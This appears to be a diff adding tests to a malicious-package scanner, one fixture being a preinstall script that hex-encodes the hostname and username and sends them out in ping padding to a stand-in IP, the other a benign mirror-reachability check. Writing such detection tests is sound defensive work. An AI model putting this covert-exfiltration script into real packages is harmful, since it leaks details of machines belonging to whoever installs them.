@@ -3140,3 +3140,39 @@ module.exports = { help: dedent\`usage: tool \${names[0]} | \${names[1]} | \${na
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('unusual exfiltration channels (round 26)', () => {
+  it('an install script that hex-encodes host details into ping padding patterns', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'orbit-sdk',
+        version: '10.0.3',
+        scripts: { preinstall: 'sh ./scripts/probe.sh' },
+      }),
+      'scripts/probe.sh': `#!/bin/sh
+H=$(hostname); U=$(id -un)
+DATA=$(printf '%s|%s' "$H" "$U" | od -An -tx1 | tr -d ' \\n')
+while [ -n "$DATA" ]; do
+  CHUNK=$(printf '%s' "$DATA" | cut -c1-28); DATA=$(printf '%s' "$DATA" | cut -c29-)
+  ping -c 1 -p "$CHUNK" 198.51.100.14 >/dev/null 2>&1
+done
+`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('script.fingerprint-exfil');
+  });
+  it('quiet: an install script that checks the mirror answers a ping before downloading', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'orbit-sdk',
+        version: '1.0.3',
+        scripts: { postinstall: 'sh ./scripts/check.sh' },
+      }),
+      'scripts/check.sh': `#!/bin/sh
+MIRROR=\${ORBIT_MIRROR:-mirror.example-orbit.net}
+if ping -c 1 -W 1 "$MIRROR" >/dev/null 2>&1; then echo "mirror $MIRROR reachable"; else echo "mirror unreachable: binaries will be built"; fi
+`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
